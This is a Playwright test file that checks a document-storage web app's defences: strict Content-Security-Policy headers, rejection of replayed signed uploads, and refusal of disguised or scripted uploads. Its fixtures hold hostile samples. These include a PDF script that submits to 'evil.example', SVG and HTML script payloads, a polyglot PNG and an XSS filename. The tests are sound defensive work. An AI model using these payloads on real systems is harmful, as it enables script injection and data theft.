import type { Page } from "@playwright/test";
import { dropMade } from "./fixtures/drop.ts";
import { leftOver } from "./fixtures/held.ts";
import { startBareApp } from "./fixtures/next-start.ts";
import { NOBODY, signInByHttp } from "./fixtures/sign-in.ts";
import { noteSignedRequests, replay } from "./fixtures/signed-requests.ts";
import { expect, test } from "./fixtures/test.ts";
import { complaints } from "./fixtures/watch.ts";
import { DocumentsPage } from "./pages/documents.ts";
import { coloursOf } from "./pages/preview.ts";
import { TrashPage } from "./pages/trash.ts";
import { pageCalledPdf } from "./samples/bad.ts";
import { letter, letterWithScript } from "./samples/pdf.ts";
import { photo } from "./samples/picture.ts";
import { type Sample, sha256 } from "./samples/sample.ts";

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>globalThis.ran = true; alert("svg")</script></svg>`;

/** The policy of a page as it came: its directives by name. */
async function policyOf(
  page: Page,
  address: string,
): Promise<{ status: number; policy: Map<string, string> }> {
  const answer = await page.goto(address);
  const header = (await answer?.headerValue("content-security-policy")) ?? "";
  const directives = header.split(";").map((part) => part.trim().split(/ (.*)/s));
  return {
    status: answer?.status() ?? 0,
    policy: new Map(directives.map(([name = "", value = ""]) => [name, value])),
  };
}

const PAGES = [
  ["/documents", 200],
  ["/trash", 200],
  ["/usage", 200],
  ["/settings/account", 200],
  ["/sign-in", 200],
  ["/setup", 200],
  ["/there/is/nothing", 404],
  ["/documents/not-an-id/download", 404],
] as const;

test("every page carries a strict policy with a nonce of its own, and keeps it", async ({
  page,
  browser,
  installation,
}) => {
  const heard = complaints(page);
  const stranger = await browser.newContext({ storageState: NOBODY, baseURL: installation.baseUrl });
  const strangers = await stranger.newPage();
  const nonces = new Set<string>();
  for (const [address, status] of PAGES) {
    const visitor = ["/sign-in", "/setup"].includes(address) ? strangers : page;
    const { policy, status: answered } = await policyOf(visitor, address);
    expect(answered, address).toBe(status);
    expect(new URL(visitor.url()).pathname).toBe(address);
    const scripts = policy.get("script-src") ?? "";
    expect(scripts, address).toMatch(/^'nonce-[\w+/=]{20,}' 'strict-dynamic'$/);
    nonces.add(scripts);
    expect(policy.get("default-src")).toBe("'none'");
    expect(policy.get("object-src")).toBe("'none'");
    expect(policy.get("base-uri")).toBe("'none'");
    expect(policy.get("frame-ancestors")).toBe("'none'");
    expect(policy.get("connect-src")).toBe(`'self' ${installation.bucket.origin}`);
  }
  expect(nonces.size).toBe(PAGES.length);
  await stranger.close();
  expect(heard).toEqual([]);
});

test("every answer says what browsers must not do with it", async ({ page, context }) => {
  const answer = await page.goto("/documents");
  const script = await page.evaluate(() => document.querySelector("script[src]")?.getAttribute("src") ?? "");
  const answers = [
    answer?.headers() ?? {},
    (await context.request.get(script)).headers(),
    (await context.request.get("/api/v1/documents")).headers(),
    (await context.request.get("/api/health")).headers(),
    (await context.request.get("/there/is/nothing")).headers(),
  ];
  for (const headers of answers) {
    expect(headers).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "referrer-policy": "same-origin",
    });
    expect(headers["permissions-policy"]).toContain("camera=()");
    expect(headers["content-security-policy"]).toContain("default-src 'none'");
    expect(Object.keys(headers)).not.toContain("x-powered-by");
  }
  expect(answers[0]?.["cache-control"]).toContain("no-store");
  expect((await page.goto("/setup"))?.headers()["referrer-policy"]).toBe("no-referrer");
});

test("nothing that a page does breaks its policy: lists, uploads, previews, dialogs, languages", async ({
  api,
  documents,
  page,
}) => {
  const heard = complaints(page);
  await api.storeAll([await letter("dos páginas.pdf", 2), photo("foto.png")]);
  await documents.open();
  await documents.file("foto.png").click();
  await expect(documents.preview.box.getByRole("img", { name: "foto.png" })).toBeVisible();
  await documents.preview.next.click();
  await expect.poll(() => coloursOf(documents.preview.sheet(1, 2))).toBeGreaterThan(5);
  await documents.preview.close();
  await documents.choose(photo("otra.png"));
  await documents.select("otra.png").check();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await expect(page.getByText("“otra.png” is in the trash.")).toBeVisible();
  await page.getByRole("link", { name: "Trash" }).click();
  const trash = new TrashPage(page);
  await trash.purge("otra.png").click();
  await trash.dialog.getByRole("button", { name: "Delete for good" }).click();
  await expect(page.getByText("The trash is empty")).toBeVisible();
  await page.getByRole("link", { name: "Usage" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Usage" })).toBeVisible();
  await page.getByRole("link", { name: "Account" }).click();
  await page.getByLabel("Theme").selectOption({ label: "Dark" });
  await page.getByLabel("Theme").selectOption({ label: "Same as this device" });
  expect(heard).toEqual([]);
});

/** The same length, other bytes: still a picture. */
function forged(sample: Sample): Buffer {
  const bytes = Buffer.from(sample.bytes);
  const at = bytes.indexOf("Title") + 6;
  bytes[at] = (bytes[at] ?? 0) ^ 1;
  return bytes;
}

for (const method of ["POST", "PUT"] as const) {
  test(`a signed ${method} used again after the upload cannot change what is stored`, async ({
    browser,
    installation,
    school,
  }) => {
    const { DATABASE_URL, NEXTAUTH_SECRET, ...rest } = installation.settings;
    const storage = Object.entries(rest).filter(([name]) => name.startsWith("R2_"));
    const settings = { DATABASE_URL: DATABASE_URL ?? "", NEXTAUTH_SECRET: NEXTAUTH_SECRET ?? "" };
    const app =
      method === "POST"
        ? { baseUrl: installation.baseUrl, stop: async () => {} }
        : await startBareApp({ ...settings, ...Object.fromEntries(storage), R2_UPLOAD_METHOD: "put" });
    if (method === "PUT") await installation.bucket.admitOrigin(app.baseUrl);
    const storageState = await signInByHttp(app.baseUrl, school.people.administrator);
    const context = await browser.newContext({ storageState, baseURL: app.baseUrl });
    const documents = new DocumentsPage(await context.newPage());
    const noted = await noteSignedRequests(documents.page, installation.bucket.origin);
    await documents.open();
    const file = photo(`firmada ${method}.png`);
    await documents.choose(file);
    await expect(documents.tray.title).toHaveText("1 file uploaded");
    const [request] = await noted();
    if (request === undefined) throw new Error("the page sent nothing to the store");
    expect(request.method).toBe(method);

    const attempts = [
      await replay(request, forged(file)),
      await replay(request, Buffer.concat([file.bytes, Buffer.from("more")])),
      await replay(request, file.bytes.subarray(0, -1)),
      await replay(request, forged(file), "if-none-match"),
      await replay(request, forged(file), "x-amz-checksum-sha256"),
    ];
    for (const status of attempts) expect(status).toBeGreaterThanOrEqual(400);
    for (const status of attempts) expect(status).toBeLessThan(500);
    await replay(request, file.bytes);

    expect(sha256((await documents.download(file.name)).bytes)).toBe(sha256(file.bytes));
    // What the journey before this one has deleted for good goes by and by.
    await expect.poll(() => leftOver(installation, school), { timeout: 45_000 }).toEqual([]);
    await context.close();
    await app.stop();
  });
}

test("a PDF with a script in it runs nothing, in the preview or opened by itself", async ({
  api,
  documents,
  page,
  context,
}) => {
  const dialogs: string[] = [];
  context.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const script = `app.alert("from the PDF"); globalThis.ran = true; this.submitForm("https://evil.example/");`;
  const file = await letterWithScript("formulario.pdf", script);
  const stored = await api.store(file);
  await documents.open();
  await documents.file(file.name).click();
  await expect.poll(() => coloursOf(documents.preview.sheet(1, 1))).toBeGreaterThan(5);
  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);

  const opened = await context.request.get(`/api/v1/documents/${stored.id}/preview`);
  expect(opened.headers()["content-security-policy"]).toContain("sandbox");
  expect(opened.headers()["content-type"]).toBe("application/pdf");
  expect(dialogs).toEqual([]);
});

test("what is not what its name says is refused, and a picture with a page in it stays a picture", async ({
  api,
  documents,
  page,
  installation,
  school,
}) => {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const disguised: Sample[] = [
    { name: "dibujo.png", type: "image/png", bytes: Buffer.from(SVG) },
    { name: "dibujo.jpg", type: "image/jpeg", bytes: Buffer.from(`<?xml version="1.0"?>${SVG}`) },
    { ...pageCalledPdf("carta.docx"), type: "" },
    { name: "dibujo.svg", type: "image/svg+xml", bytes: Buffer.from(SVG) },
    { name: "página.html", type: "text/html", bytes: Buffer.from("<script>alert(1)</script>") },
  ];
  await dropMade(page, disguised);
  await documents.settled();
  await expect(documents.tray.title).toHaveText("0 uploaded, 5 need attention");
  await expect(documents.tray.row("dibujo.svg")).toContainText("SVG are not taken here");
  for (const name of ["dibujo.png", "dibujo.jpg", "carta.docx"]) {
    await expect(documents.tray.row(name)).toContainText(/what is in it is|damaged|not what its name says/);
  }
  await expect.poll(() => leftOver(installation, school), { timeout: 45_000 }).toEqual([]);

  const plain = photo("políglota.png");
  const polyglot = { ...plain, bytes: Buffer.concat([plain.bytes, Buffer.from(`<html>${SVG}</html>`)]) };
  const stored = await api.store(polyglot);
  const markup = photo(`<img src=x onerror=alert(1)>"'.png`);
  await api.store(markup);
  await documents.open();
  await expect(documents.file(markup.name)).toBeVisible();
  await documents.file(polyglot.name).click();
  await expect(documents.preview.box.getByRole("img", { name: polyglot.name })).toBeVisible();
  const answer = await page.goto(`/api/v1/documents/${stored.id}/preview`);
  expect(answer?.headers()["content-type"]).toBe("image/png");
  expect(answer?.headers()["x-content-type-options"]).toBe("nosniff");
  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
  expect(dialogs).toEqual([]);
});
